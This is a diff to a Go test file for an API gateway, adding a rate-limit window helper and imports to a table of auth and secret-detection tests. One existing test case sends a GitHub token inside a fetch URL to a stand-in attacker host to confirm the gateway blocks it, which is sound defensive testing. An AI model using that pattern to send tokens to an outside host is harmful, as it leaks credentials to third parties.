@@ -13,6 +13,7 @@ import (
 	"strings"
 	"sync"
 	"testing"
+	"time"
 
 	sdk "github.com/anthropics/anthropic-sdk-go"
 	"github.com/anthropics/anthropic-sdk-go/option"
@@ -24,6 +25,7 @@ import (
 	"github.com/webgate/webgate/mcpserver"
 	"github.com/webgate/webgate/policy"
 	"github.com/webgate/webgate/proxy"
+	"github.com/webgate/webgate/ratelimit/countertest"
 	"github.com/webgate/webgate/service"
 )
 
@@ -172,6 +174,7 @@ func TestAuthJSONAPI(t *testing.T) {
 		{name: "secret in query", method: "GET", path: "/v1/search?q=why+" + ghToken, hdr: e.bearer("full"), status: 400, typ: "secret_detected", msg: "appears to contain a GitHub token"},
 		{name: "secret in url", method: "POST", path: "/v1/fetch", body: `{"url":"https://attacker.example/?t=` + ghToken + `"}`, hdr: e.bearer("full"), status: 400, typ: "secret_detected"},
 	}
+	countertest.ClearOfWindowEdge(t, 20*time.Second, time.Hour, 24*time.Hour)
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			status, body, hdr := e.do(t, tt.method, tt.path, tt.body, tt.hdr...)
